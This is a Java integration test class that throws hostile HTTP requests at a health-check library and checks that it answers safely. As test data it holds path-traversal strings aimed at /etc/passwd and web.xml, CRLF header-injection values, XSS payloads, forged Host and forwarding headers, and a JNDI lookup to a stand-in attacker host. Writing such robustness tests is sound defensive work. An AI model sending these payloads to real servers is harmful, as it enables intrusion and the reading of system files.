package dev.healthcheck.it.contract;

import static org.assertj.core.api.Assertions.assertThat;

import dev.healthcheck.it.app.Shop;
import dev.healthcheck.it.app.TwoChecks;
import dev.healthcheck.it.server.DeployedWar;
import dev.healthcheck.it.server.ExpectedErrors;
import dev.healthcheck.it.server.Server;
import io.restassured.path.json.JsonPath;
import java.net.URI;
import java.time.Duration;
import java.util.Collections;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Requests that no honest client sends. The server may refuse one, or fail on it, before it reaches the library, in its
 * own words, as it does where the library is not: RESTEasy fails on what no URI may be, and refuses headers that it cannot
 * read; Grizzly fails on half of all that is encoded; Liberty and Grizzly fail on a Host that is no name, and Liberty on
 * credentials that are none. What reaches us is answered with JSON, soon, and without a word about the insides.
 */
class HostileRequestsIT {
    private static final Duration SOON = Duration.ofSeconds(1);

    @RegisterExtension
    static final DeployedWar APP = new DeployedWar(Apps.app("hostile-requests", TwoChecks.class));

    @RegisterExtension
    static final DeployedWar MOVED = new DeployedWar(
            Apps.app("hostile-moved", new String[] {"healthcheck.path=/internal/health"}, TwoChecks.class));

    /** Shows what the server makes of a request by itself. */
    @RegisterExtension
    static final DeployedWar BARE = new DeployedWar(Apps.withoutLibrary("hostile-bare", Shop.class));

    private static Runnable end;

    @BeforeAll
    static void serversMayComplain(Server server) {
        end = ExpectedErrors.from(server);
        // The first answers of an application take their time.
        Wire.get(APP.at("api/healthcheck"));
        Wire.get(MOVED.at("api/internal/health"));
    }

    @AfterAll
    static void noMore() {
        end.run();
    }

    static Stream<String> accepts() {
        return Stream.of(
                "",
                " ",
                "*",
                "*;q=.2",
                "text/html, image/gif, image/jpeg, *; q=.2, */*; q=.2",
                "image/png",
                "application/json;q=0",
                "*/*;q=0",
                String.join(",", Collections.nCopies(300, "a/b;q=0.5")));
    }

    @ParameterizedTest
    @MethodSource("accepts")
    void whateverIsAcceptedTheAnswerIsJson(String accept) {
        assertWell(Wire.get(APP.at("api/healthcheck"), "Accept: " + accept));
        assertWell(Wire.get(MOVED.at("api/internal/health"), "Accept: " + accept));
    }

    /** RESTEasy looks before it asks anybody, and refuses some. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "*/*;q=7",
                "*/*;q=abc",
                "*/*;q=",
                "application/json;",
                "application/json;q",
                "/",
                "json",
                "text/",
                ",,,",
                ";;;",
                "\"",
                "application/json;a=\"b",
                "äöü",
                "<script>"
            })
    void whatCannotBeReadAsATypeIsNotHeededOrIsRefused(String accept) {
        Wire answer = Wire.get(APP.at("api/healthcheck"), "Accept: " + accept);

        assertAnswered(answer, Wire.get(BARE.at("api/shop"), "Accept: " + accept), 200);
    }

    @Test
    void thousandsOfAcceptedTypesAreTooManyAtMost() {
        String accept = String.join(",", Collections.nCopies(5_000, "a/b;q=0.5"));

        assertHarmless(Wire.get(APP.at("api/healthcheck"), "Accept: " + accept));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Range: bytes=0-3",
                "Range: bytes=999-,0-0,-1",
                "Accept-Encoding: gzip, br;q=9",
                "Accept-Encoding: *;q=0",
                "Accept-Language: xx-äö;q=9",
                "Accept-Charset: utf-7",
                "If-None-Match: garbage",
                "If-Modified-Since: yesterday",
                "If-Match: \"x\"",
                "Content-Type: garbage",
                "Content-Type: application/x-www-form-urlencoded",
                "Cookie: =;=;\"",
                "Cookie: JSESSIONID=AAAA",
                "Origin: http://evil.example",
                "Expect: nothing",
                "X-Forwarded-Proto: https\r\nX-Forwarded-Host: evil.example\r\nX-Forwarded-Prefix: /evil",
                "Forwarded: for=127.0.0.1;host=evil.example;proto=https",
                "X-HTTP-Method-Override: DELETE",
                "X-Original-URL: /admin\r\nX-Rewrite-URL: /admin",
                "Authorization: Basic ====",
                "Authorization: Digest \"",
                "Referer: \u0007",
            })
    void oddHeadersAreNotHeeded(String header) {
        for (String address : new String[] {APP.at("api/healthcheck"), MOVED.at("api/internal/health")}) {
            Wire answer = Wire.get(address, header);

            assertAnswered(answer, Wire.get(BARE.at("api/shop"), header), 200);
            assertThat(answer.toString()).doesNotContain("evil");
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Host: evil.example",
                "Host: evil.example:99999",
                "Host: a b",
                "Host: [::1",
                "Host: <script>",
                "Host: x/../..",
                "Host:",
                "X-No-Host: x",
            })
    void theHostDoesNotMatterUnlessItIsNone(String host) {
        for (String address : new String[] {APP.at("api/healthcheck"), MOVED.at("api/internal/health/orders")}) {
            assertAnswered(withHost(host, address), withHost(host, BARE.at("api/shop")), 200, 400);
        }
    }

    private static Wire withHost(String host, String address) {
        URI uri = URI.create(address);
        Wire answer = Wire.send(uri.getAuthority(), "GET " + uri.getPath() + " HTTP/1.1", host);
        assertThat(answer.isOurs() && answer.toString().contains("evil")).isFalse();
        return answer;
    }

    static Stream<String> queries() {
        return Stream.of(
                "?" + "a".repeat(7_000),
                "?" + "a=b&".repeat(1_700),
                "?%zz",
                "?refresh=%zz",
                "?%",
                "?a=%0d%0aSet-Cookie:%20a=b",
                "?a=%00",
                "?%c0%af",
                "?a=1&a=2&a=3",
                "?;;;",
                "?&&&==&",
                "?a=<script>alert(1)</script>",
                "?|^`\"{}\\",
                "??",
                "#fragment");
    }

    @ParameterizedTest
    @MethodSource("queries")
    void oddQueriesAreNotHeeded(String query) {
        for (String address : new String[] {APP.at("api/healthcheck"), MOVED.at("api/internal/health")}) {
            Wire answer = Wire.get(address + query);

            assertAnswered(answer, Wire.get(BARE.at("api/shop") + query), 200);
        }
    }

    static Stream<String> names() {
        return Stream.of(
                "%zz",
                "%",
                "%00",
                "a%00b",
                "%0d%0aSet-Cookie:%20a=b",
                "%0d%0a%0d%0a<html>",
                "%c0%af",
                "%ff",
                "%ed%a0%80",
                "..%2f..%2fWEB-INF%2fweb.xml",
                "%2e%2e/%2e%2e/WEB-INF/web.xml",
                "..%5c..%5cWEB-INF",
                "../../../../../../etc/passwd",
                "..;/..;/WEB-INF/web.xml",
                "%252e%252e%252f",
                "orders/",
                "orders//",
                "/orders",
                "orders%2f",
                "orders%20",
                "orders;a=b",
                "orders;jsessionid=AAAA",
                "<script>alert(1)</script>",
                "%3Cscript%3Ealert(1)%3C/script%3E",
                "${jndi:ldap://evil.example/a}",
                "%24%7b7*7%7d",
                "{checker}",
                "{",
                "%7bx",
                "x".repeat(4_000),
                "a/".repeat(2_000),
                "%61".repeat(1_500),
                "\u00e4",
                "history/",
                "history/x",
                "History");
    }

    @ParameterizedTest
    @MethodSource("names")
    void oddNamesAreUnknown(String name) {
        for (String route : new String[] {APP.at("api/healthcheck/"), MOVED.at("api/internal/health/")}) {
            Wire answer = Wire.get(route + name);

            assertAnswered(answer, Wire.get(BARE.at("api/shop/") + name), 200, 400, 404);
            if (answer.isOurs() && answer.status() == 404) {
                assertThat(answer.body()).isEqualTo("{\"error\":\"there is nothing of that name\"}");
            }
        }
    }

    /**
     * That it is one of these statuses, and does no harm; unless the server alone has answered just as it does where
     * the library is not.
     */
    private static void assertAnswered(Wire answer, Wire elsewhere, Integer... statuses) {
        assertThat(answer.header("Set-Cookie")).isNull();
        if (answer.isOurs() || answer.status() != elsewhere.status()) {
            assertThat(answer.status())
                    .as("elsewhere %d, here %s", elsewhere.status(), answer)
                    .isIn((Object[]) statuses);
            assertHarmless(answer);
        }
    }

    private static void assertWell(Wire answer) {
        assertHarmless(answer);
        assertThat(answer.status()).isEqualTo(200);
        assertThat(answer.header("Content-Type")).isEqualTo("application/json");
        assertThat(JsonPath.from(answer.body()).getString("status")).isEqualTo("success");
    }

    /** No error of the server's, nothing about the insides, no header that was put in from outside; and at once. */
    static void assertHarmless(Wire answer) {
        assertThat(answer.status()).as(answer.toString()).isLessThan(500);
        assertThat(answer.took()).isLessThan(SOON);
        assertThat(answer.header("Set-Cookie")).isNull();
        assertThat(answer.header("Location")).isNull();
        if (answer.isOurs()) {
            assertThat(answer.body())
                    .as(answer.toString())
                    .startsWith("{")
                    .doesNotContainPattern("\\bat [a-z]+\\.|Exception|<html|root:");
            assertThat(answer.header("Content-Type")).isEqualTo("application/json");
        }
    }
}
